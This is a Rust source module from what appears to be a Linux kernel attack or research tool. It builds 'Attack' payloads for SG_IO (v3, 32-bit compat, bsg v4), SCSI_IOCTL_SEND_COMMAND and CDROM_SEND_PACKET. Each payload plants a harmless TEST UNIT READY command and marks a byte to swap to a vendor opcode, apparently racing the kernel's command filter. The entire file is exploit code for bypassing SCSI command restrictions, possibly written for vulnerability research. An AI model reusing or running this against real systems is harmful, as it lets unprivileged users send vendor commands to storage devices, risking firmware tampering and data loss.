//! SCSI: TEST UNIT READY that becomes a vendor's command, by each ioctl that carries commands.

use std::{fs::File, io, os::unix::fs::OpenOptionsExt as _};

use rustix::{fs::OFlags, io::Errno};

use super::{
    Attack, Byte, Made, OTHER_VENDOR, SG_IO, VENDOR, call, compat as by_compat, header,
    memory::{PAGE, pages, written},
    send, vfio,
};
use crate::client::nvme::low;

/// Where SG_IO's answer has the SCSI status.
const STATUS: usize = 64;
const READY: u8 = 0x00;
/// Its length.
const LENGTH: u8 = 6;

/// SG_IO of the third version.
pub(super) fn sg_io(node: &str) -> Made {
    sg_io_to(without_waiting(node)?, VENDOR)
}

/// The same to a file of which sg asks nobody.
pub(super) fn sg_io_writable(node: &str) -> Made {
    sg_io_to(vfio::read_write(node)?, OTHER_VENDOR)
}

fn sg_io_to(file: File, other: u8) -> Made {
    let cdb = pages(1)?;
    is_ready(&file, cdb)?;
    Ok(Attack {
        argument: header(cdb, LENGTH).to_vec(),
        at: pages(2)?,
        byte: Byte::Apart(cdb),
        values: [READY, other],
        send: Box::new(move |at| answer(send(&file, SG_IO, at), at + STATUS)),
    })
}

/// The same as a 32-bit process sends it.
pub(super) fn compat(node: &str) -> Made {
    const STATUS: usize = 44;
    let file = without_waiting(node)?;
    let at = low()?;
    // Behind the argument's two pages.
    let cdb = at + 2 * PAGE;
    is_ready(&file, cdb)?;
    Ok(Attack {
        argument: by_compat::header(cdb, LENGTH)?.to_vec(),
        at,
        byte: Byte::Apart(cdb),
        values: [READY, VENDOR],
        send: Box::new(move |at| {
            let sent = by_compat::ioctl(&file, SG_IO, at).map(drop);
            answer(sent, at + STATUS)
        }),
    })
}

/// SG_IO of the fourth version (`struct sg_io_v4` of `linux/bsg.h`).
pub(super) fn bsg(node: &str) -> Made {
    const STATUS: usize = 116;
    let file = vfio::read_write(node)?;
    let cdb = pages(1)?;
    let mut argument = vec![0; 160];
    argument[0] = b'Q';
    argument[12] = LENGTH;
    argument[16..24].copy_from_slice(&cdb.to_le_bytes());
    argument[88..92].copy_from_slice(&5000_u32.to_le_bytes());
    Ok(Attack {
        argument,
        at: pages(2)?,
        byte: Byte::Apart(cdb),
        values: [READY, VENDOR],
        send: Box::new(move |at| answer(send(&file, SG_IO, at), at + STATUS)),
    })
}

/// SCSI_IOCTL_SEND_COMMAND (`struct scsi_ioctl_command` of `scsi/scsi_ioctl.h`): two lengths, and the command.
pub(super) fn send_command(node: &str) -> Made {
    const SEND_COMMAND: u32 = 1;
    const CDB: usize = 8;
    let file = without_waiting(node)?;
    is_ready(&file, pages(1)?)?;
    Ok(Attack {
        argument: vec![0; CDB + usize::from(LENGTH)],
        at: pages(1)?,
        byte: Byte::Within(CDB),
        values: [READY, VENDOR],
        send: Box::new(move |at| call(&file, SEND_COMMAND, at)),
    })
}

/// CDROM_SEND_PACKET (`struct cdrom_generic_command` of `linux/cdrom.h`), which begins with the command.
pub(super) fn send_packet(node: &str) -> Made {
    const SEND_PACKET: u32 = 0x5393;
    /// Where it says that there is no data, and how long the command may take.
    const DIRECTION: usize = 40;
    const TIMEOUT: usize = 48;
    /// CGC_DATA_NONE
    const NONE: u8 = 3;
    let file = without_waiting(node)?;
    let mut argument = vec![0; 64];
    argument[DIRECTION] = NONE;
    argument[TIMEOUT..TIMEOUT + 4].copy_from_slice(&5000_u32.to_le_bytes());
    Ok(Attack {
        argument,
        at: pages(1)?,
        byte: Byte::Within(0),
        values: [READY, VENDOR],
        send: Box::new(move |at| match call(&file, SEND_PACKET, at) {
            Err(Errno::IO) => Ok(1),
            other => other,
        }),
    })
}

/// The SCSI status that SG_IO's answer has at an address, which is mapped.
fn answer(sent: rustix::io::Result<()>, at: usize) -> rustix::io::Result<i32> {
    // SAFETY: it lies in the attack's pages.
    sent.map(|()| (unsafe { written(at) } & 0xff).cast_signed())
}

/// For reading, and whatever is or is not in the drive.
fn without_waiting(node: &str) -> io::Result<File> {
    let flags = OFlags::NONBLOCK.bits().cast_signed();
    File::options().read(true).custom_flags(flags).open(node)
}

/// Sends the harmless command until the device has told what it has to tell first.
fn is_ready(file: &File, cdb: usize) -> Result<(), Box<dyn std::error::Error>> {
    for _ in 0..10 {
        let mut header = header(cdb, LENGTH);
        send(file, SG_IO, header.as_mut_ptr().expose_provenance())?;
        if header[STATUS] == 0 {
            return Ok(());
        }
    }
    Err("the device is not ready".into())
}
